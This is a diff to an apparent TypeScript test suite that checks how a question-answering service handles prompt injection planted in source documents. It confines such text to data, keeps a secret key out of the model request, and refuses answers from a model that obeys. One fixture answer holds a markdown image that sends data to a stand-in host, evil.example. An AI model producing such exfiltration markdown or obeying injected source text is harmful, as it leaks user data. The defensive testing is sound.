@@ -15,7 +15,7 @@ const injected = [
 ].join("\n")
 
 for (const [where, storage] of storages) {
-  describe(`attack: instructions in a source, ${where}`, () => {
+  describe(`attack: a source of an answer contains instructions for the language model, ${where}`, () => {
     let stub: ModelStub
     let pod: TestPod
     const secret = "sk-of-the-pod-4711"
@@ -42,7 +42,7 @@ for (const [where, storage] of storages) {
     }
     const eventsOf = async () => (await pod.owner.send("GET", "/api/hub/events?limit=100")).body
 
-    it("an instruction stays inside the one line of its source, in the message of data", async () => {
+    it("an instruction in a source stays within the one line of that source in the data for the model", async () => {
       stub.reply(replies.saying("NO ANSWER"))
       await ask()
       const [{ body }] = stub.asked()
@@ -58,7 +58,7 @@ for (const [where, storage] of storages) {
       assert.notInclude(JSON.stringify(body), secret)
     })
 
-    it("a model that obeys changes nothing, and what it writes is refused", async () => {
+    it("a model that obeys an instruction in a source changes nothing in the pod, and its answer is refused", async () => {
       const obeying: ReadonlyArray<(asked: AskedModel) => string> = [
         () => "The crane is free of charge [9].",
         () => "Crane manual [1]. ![x](https://evil.example/collect?data=4711)",
